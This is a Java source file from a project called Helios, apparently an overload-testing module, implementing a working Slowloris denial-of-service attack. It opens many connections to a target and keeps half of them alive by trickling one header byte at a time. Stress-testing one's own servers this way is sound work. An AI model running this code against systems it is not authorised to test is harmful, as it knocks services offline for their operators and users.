/* Helios. Copyright (c) Noragentia. Free for personal, non-commercial use: see license.txt. */
package com.noragentia.helios.orchestrator.overload;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * Many connections, of which every second says nothing at all and the others a byte of a request's header every two seconds. What is hung
 * up on comes back, a thousand a second at most. One thread, one selector.
 */
final class SlowLoris implements Attack {

    private static final byte[] BEGINNING =
            "GET /api/v1/network HTTP/1.1\r\nHost: loris\r\nX-Slow: ".getBytes(StandardCharsets.US_ASCII);
    private static final long ROUND_MILLIS = 100;
    private static final int OPENED_PER_ROUND = 100;
    private static final int BEATS = 20;

    private final InetSocketAddress target;
    private final int wanted;
    private final CountDownLatch strong = new CountDownLatch(1);
    private final AtomicInteger open = new AtomicInteger();
    private final AtomicInteger peak = new AtomicInteger();
    private final AtomicInteger opened = new AtomicInteger();
    private volatile boolean stopping;

    SlowLoris(URI target, int wanted) {
        this.target = new InetSocketAddress(target.getHost(), target.getPort());
        this.wanted = wanted;
    }

    @Override
    public void begin() throws InterruptedException {
        Thread.ofPlatform().daemon().start(this::attack);
        strong.await(20, TimeUnit.SECONDS);
    }

    private void attack() {
        try (Selector selector = Selector.open()) {
            for (int round = 0; !stopping; round++) {
                open(selector, strong.getCount() > 0 ? 10 * OPENED_PER_ROUND : OPENED_PER_ROUND);
                selector.selectNow(SlowLoris::answer);
                dribble(selector, round);
                peak.accumulateAndGet(open.get(), Math::max);
                if (open.get() >= wanted || opened.get() >= 2 * wanted) {
                    strong.countDown();
                }
                selector.select(SlowLoris::answer, ROUND_MILLIS);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private void open(Selector selector, int most) throws IOException {
        for (int i = 0; i < most && selector.keys().size() < wanted; i++) {
            SocketChannel channel = SocketChannel.open();
            channel.configureBlocking(false);
            int beat = opened.incrementAndGet();
            channel.register(selector, SelectionKey.OP_CONNECT, beat);
            channel.connect(target);
        }
        open.set(selector.keys().size());
    }

    /** Connected, or hung up on. */
    private static void answer(SelectionKey key) {
        SocketChannel channel = (SocketChannel) key.channel();
        try {
            if (key.isConnectable() && channel.finishConnect()) {
                key.interestOps(SelectionKey.OP_READ);
                if ((Integer) key.attachment() % 2 == 0) {
                    channel.write(ByteBuffer.wrap(BEGINNING));
                }
            } else if (channel.read(ByteBuffer.allocate(1_024)) < 0) {
                channel.close();
            }
        } catch (IOException e) {
            hangUp(channel);
        }
    }

    private static void hangUp(SocketChannel channel) {
        try {
            channel.close();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static void dribble(Selector selector, int round) {
        for (SelectionKey key : new ArrayList<>(selector.keys())) {
            int beat = (Integer) key.attachment();
            SocketChannel channel = (SocketChannel) key.channel();
            if (beat % 2 == 0 && beat / 2 % BEATS == round % BEATS && key.isValid() && channel.isConnected()) {
                try {
                    channel.write(ByteBuffer.wrap(new byte[] {'x'}));
                } catch (IOException e) {
                    hangUp(channel);
                }
            }
        }
    }

    @Override
    public String figures() {
        return List.of(peak.get() + " connections at once", opened.get() + " opened")
                .toString();
    }

    @Override
    public void close() {
        stopping = true;
    }
}
